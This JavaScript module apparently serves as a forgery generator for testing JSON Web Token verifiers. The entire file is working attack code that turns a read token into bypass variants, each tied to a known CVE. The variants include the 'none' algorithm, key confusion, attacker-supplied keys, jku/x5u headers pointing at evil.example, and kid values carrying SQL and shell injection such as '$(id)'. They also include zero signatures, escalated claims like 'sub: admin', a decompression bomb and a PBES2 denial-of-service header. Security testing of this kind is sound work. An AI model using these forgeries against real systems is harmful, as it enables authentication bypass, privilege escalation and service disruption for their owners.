// SPDX-License-Identifier: Apache-2.0
// What is made of a token by somebody who holds no key that signs here.
import { createHmac, createPublicKey, generateKeyPairSync, sign } from 'node:crypto';
import { deflateRawSync } from 'node:zlib';

const part = (value) => Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');
const opened = (text) => JSON.parse(Buffer.from(text, 'base64url').toString());

/** Header, claims and the three parts as they stand. */
export function read(token) {
  const parts = token.split('.');
  return { header: opened(parts[0]), claims: opened(parts[1]), parts, token };
}

function signed(header, claims, make) {
  const text = `${part(header)}.${part(claims)}`;
  return `${text}.${make(text)}`;
}

const hmac = (bits, secret) => (text) => createHmac(`sha${bits}`, secret).update(text).digest('base64url');

const own = {
  RS256: generateKeyPairSync('rsa', { modulusLength: 2048 }),
  ES256: generateKeyPairSync('ec', { namedCurve: 'P-256' }),
  EdDSA: generateKeyPairSync('ed25519'),
};
own.PS256 = own.RS256;

/** Signed with the attacker's own key, as the algorithm wants it. */
const byMe = (alg) => (text) => {
  const key = { key: own[alg].privateKey, dsaEncoding: 'ieee-p1363' };
  if (alg === 'PS256') Object.assign(key, { padding: 6, saltLength: 32 }); // RSA_PKCS1_PSS_PADDING
  return sign(alg === 'EdDSA' ? null : 'sha256', Buffer.from(text), key).toString('base64url');
};

const myJwk = (alg, kid) => ({ ...own[alg].publicKey.export({ format: 'jwk' }), kid, alg, use: 'sig' });
const myDer = (alg) => own[alg].publicKey.export({ type: 'spki', format: 'der' }).toString('base64');
const algorithms = ['RS256', 'RS384', 'RS512', 'PS256', 'PS384', 'ES256', 'ES384', 'ES256K', 'EdDSA', 'HS256'];

/** Every form in which a public key could lie around as a secret. */
function secretsOf(jwk) {
  const key = createPublicKey({ key: jwk, format: 'jwk' });
  const pem = key.export({ type: 'spki', format: 'pem' });
  const numbers = ['n', 'x', 'y', 'e'].filter((name) => jwk[name]);
  const coordinates = numbers.map((name) => Buffer.from(jwk[name], 'base64url'));
  const older = jwk.kty === 'RSA' ? [key.export({ type: 'pkcs1', format: 'pem' })] : [];
  const { kid, alg, use, ...bare } = jwk;
  return [
    pem, pem.trim(), pem.replace(/\n/g, ''), pem.replace(/-----.*-----|\n/g, ''),
    key.export({ type: 'spki', format: 'der' }),
    JSON.stringify(jwk), JSON.stringify(bare), JSON.stringify({ keys: [jwk] }), kid, ...older, ...coordinates,
    ...coordinates.map((octets) => octets.toString('base64url')),
  ];
}

/** Another text for the same octets: bits that base64url leaves unused. */
function respelled(text) {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
  if (text.length % 4 === 0) return [];
  return [text.slice(0, -1) + alphabet[alphabet.indexOf(text.at(-1)) ^ 1]];
}

/** The order of P-256, and of the group of Ed25519. */
const p256Order = Buffer.from('ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551', 'hex');
const ed25519Order = 2n ** 252n + 27742317777372353535851937790883648493n;

/** r and s as ASN.1 has them, where JOSE has 64 octets. */
function asDer(octets) {
  const numbers = [octets.subarray(0, 32), octets.subarray(32)].map((each) => {
    const least = each.subarray(each.findIndex((one) => one !== 0));
    const value = least[0] & 0x80 ? Buffer.concat([Buffer.alloc(1), least]) : least;
    return Buffer.concat([Buffer.from([0x02, value.length]), value]);
  });
  const both = Buffer.concat(numbers);
  return Buffer.concat([Buffer.from([0x30, both.length]), both]);
}

/** The same S to who reckons modulo the order, and no S at all (RFC 8032 section 5.1.7). */
function beyondOrder(octets) {
  const s = BigInt(`0x${Buffer.from(octets.subarray(32)).reverse().toString('hex')}`) + ed25519Order;
  const turned = Buffer.from(s.toString(16).padStart(64, '0'), 'hex').reverse();
  return Buffer.concat([octets.subarray(0, 32), turned]);
}

/** A megabyte of nothing. */
const bomb = deflateRawSync(Buffer.alloc(1 << 20)).toString('base64url');

/** A name for each forgery; what makes it of a token that was read and of the JWK that it is signed with. */
export const forgeries = {
  'with the algorithm none (CVE-2015-9235)': ({ header, claims, parts }) =>
    ['none', 'None', 'NONE', 'nOnE', ''].flatMap((alg) =>
      ['', parts[2], 'AA'].map((end) => signed({ ...header, alg }, claims, () => end))),
  'with the public key for an HMAC secret (CVE-2015-9235, CVE-2022-29217, CVE-2024-54150)':
    ({ header, claims }, jwk) =>
    secretsOf(jwk).flatMap((secret) => [256, 384, 512].map((bits) =>
      signed({ ...header, alg: `HS${bits}` }, claims, hmac(bits, secret)))),
  'with an empty HMAC secret (CVE-2026-44699)': ({ header, claims }) =>
    ['HS256', 'HS384', 'HS512'].flatMap((alg) => [header.kid, '', undefined].flatMap((kid) =>
      ['', '\0'].map((secret) => signed({ ...header, alg, kid }, claims, hmac(alg.slice(2), secret))))),
  'with another algorithm in its header': ({ header, claims, parts }) => [
    ...algorithms.filter((alg) => alg !== header.alg), undefined, 7, null, [header.alg],
    header.alg.toLowerCase(), `${header.alg} `,
  ].map((alg) => signed({ ...header, alg }, claims, () => parts[2])),
  'with the key it brings itself (CVE-2018-0114)': ({ header, claims }) =>
    [header.kid, 'mine', undefined].flatMap((kid) => [
      signed({ ...header, kid, jwk: myJwk(header.alg, kid) }, claims, byMe(header.alg)),
      signed({ ...header, kid, jwk: myJwk('ES256', kid), alg: 'ES256' }, claims, byMe('ES256')),
      signed({ ...header, kid, x5c: [myDer(header.alg)] }, claims, byMe(header.alg)),
    ]),
  'with the address of a key': ({ header, claims }) =>
    ['jku', 'x5u'].flatMap((name) => [
      'http://127.0.0.1:1/keys', 'https://evil.example/keys', `${claims.iss}@evil.example/`, 'file:///etc/passwd',
    ].map((uri) => signed({ ...header, [name]: uri }, claims, byMe(header.alg)))),
  'with a stranger\'s signature under a kid that is known here': ({ header, claims }) => [
    signed(header, claims, byMe(header.alg)), signed({ ...header, alg: 'ES256' }, claims, byMe('ES256')),
    signed({ ...header, alg: 'RS256' }, claims, byMe('RS256')),
    signed({ ...header, alg: 'EdDSA' }, claims, byMe('EdDSA')),
  ],
  'with a kid that is a path, a query, a command or nothing': ({ header, claims, parts }) => [
    '../../../../../../dev/null', '/dev/null', 'file:///dev/null', "' UNION SELECT 'AA' --", '" OR ""="',
    '| sleep 9', '$(id)',
    `${header.kid}\0`, `${header.kid}/../${header.kid}`, `${header.kid.toLowerCase()}`, '', '*', '%', 'null',
    0, 1, true, null,
    [header.kid], { kid: header.kid }, undefined,
  ].flatMap((kid) => [
    signed({ ...header, kid, alg: 'HS256' }, claims, hmac(256, '')),
    signed({ ...header, kid, alg: 'HS256' }, claims, hmac(256, 'AA')),
    signed({ ...header, kid }, claims, byMe(header.alg)), signed({ ...header, kid }, claims, () => parts[2]),
  ]),
  'with extensions that are said to be critical, or a payload that is not encoded': ({ header, claims, parts }) => [
    { crit: ['exp'] }, { crit: ['b64'], b64: false }, { b64: false }, { crit: [] },
    { crit: ['nobody'], nobody: 1 }, { zip: 'DEF' },
    { enc: 'A128GCM' }, { cty: 'JWT' },
  ].flatMap((more) => [
    signed({ ...header, ...more }, claims, () => parts[2]),
    `${part({ ...header, ...more })}.${JSON.stringify(claims)}.${parts[2]}`,
  ]),
  'with a signature of zeros, or of what counts as zero (CVE-2022-21449)': ({ header, claims }) => [
    ...[0, 1, 32, 64, 70, 256].map((length) => Buffer.alloc(length)),
    ...[[p256Order, p256Order], [p256Order, Buffer.alloc(32)], [Buffer.alloc(32), p256Order]]
      .map((halves) => Buffer.concat(halves)),
  ].flatMap((octets) => [
    signed({ ...header, alg: 'ES256' }, claims, () => octets.toString('base64url')),
    signed(header, claims, () => octets.toString('base64url')),
  ]),
  'with the octets of its signature written otherwise': ({ header: { alg }, parts: [head, body, end] }) => {
    const octets = Buffer.from(end, 'base64url');
    const others = [Buffer.concat([Buffer.alloc(1), octets]), Buffer.concat([octets, Buffer.alloc(1)])];
    if (alg === 'ES256') others.push(asDer(octets));
    if (alg === 'EdDSA') others.push(beyondOrder(octets));
    return others.map((other) => `${head}.${body}.${other.toString('base64url')}`);
  },
  'with changed claims': ({ header, claims, parts }) => [
    { exp: claims.exp + 1 }, { exp: undefined }, { sub: 'admin' }, { aud: '*' },
    { iss: 'https://evil.example' }, { iat: 0 },
    { scope: 'openid admin:read admin:write' }, { nbf: claims.iat + 9999 }, { client_id: 'operator' },
  ].map((more) => signed(header, { ...claims, ...more }, () => parts[2])),
  'with a member twice': ({ parts, header, claims }) => {
    const twice = (object, name, value) =>
      part(`{"${name}":${JSON.stringify(value)},${JSON.stringify(object).slice(1)}`);
    return [
      `${twice(header, 'alg', 'none')}.${parts[1]}.`, `${twice(header, 'kid', 'mine')}.${parts[1]}.${parts[2]}`,
      `${parts[0]}.${twice(claims, 'sub', 'admin')}.${parts[2]}`,
    ];
  },
  'with its signature cut, grown, moved or spelled anew': ({ parts: [head, body, end], token }) => [
    `${head}.${body}.`, `${head}.${body}`, `${head}.${body}.${end.slice(0, -1)}`, `${head}.${body}.${end}A`,
    `${token}=`, `${token}==`,
    `${head}=.${body}.${end}`, `${head}.${body}=.${end}`, `${token}.`, `${token}.${end}`, `.${token}`,
    `${head}..${end}`,
    ...respelled(end).map((other) => `${head}.${body}.${other}`),
    ...respelled(body).map((other) => `${head}.${other}.${end}`),
    ...respelled(head).map((other) => `${other}.${body}.${end}`), `${body}.${head}.${end}`,
    `${head}.${body}.${Buffer.from(end, 'base64url').toString('base64')}`,
  ],
  'as JSON with two signatures': ({ header, parts: [head, body, end] }) => {
    const mine = part({ ...header, kid: 'mine' });
    const signature = byMe(header.alg)(`${mine}.${body}`);
    const two = [{ protected: mine, signature }, { protected: head, signature: end }];
    return [
      { payload: body, signatures: two }, { payload: body, signatures: two.reverse() },
      { payload: body, protected: head, signature: end },
      { payload: body, header, signature: end }, { payload: body, signatures: [] },
    ].map((json) => JSON.stringify(json));
  },
  'encrypted to nobody, and a bomb (CVE-2024-28180)': ({ token }) => [
    [{ alg: 'dir', enc: 'A128GCM', zip: 'DEF' }, '', part('x'.repeat(12)), bomb, part('x')],
    [{ alg: 'RSA1_5', enc: 'A128CBC-HS256', cty: 'JWT' }, part('key'), part('iv'), part(token), part('tag')],
    [{ alg: 'PBES2-HS256+A128KW', enc: 'A128GCM', p2c: 2 ** 31 - 1, p2s: 'x' }, 'x', 'x', 'x', 'x'],
  ].map(([header, ...rest]) => [part(header), ...rest].join('.')),
  'of nothing but dots (CVE-2025-30204, CVE-2025-27144)':
    () => ['.', '..', '...', '.'.repeat(9000), 'a.'.repeat(4000)],
  // The shorter ones are for doors whose tokens stand in an address.
  'longer than any is': ({ header, claims, parts }) => [2500, 9000].map((length) => 'x'.repeat(length))
    .flatMap((padding) => [
      signed(header, { ...claims, padding }, () => parts[2]),
      `${part({ ...header, x: padding })}.${parts[1]}.${parts[2]}`,
    ]),
};
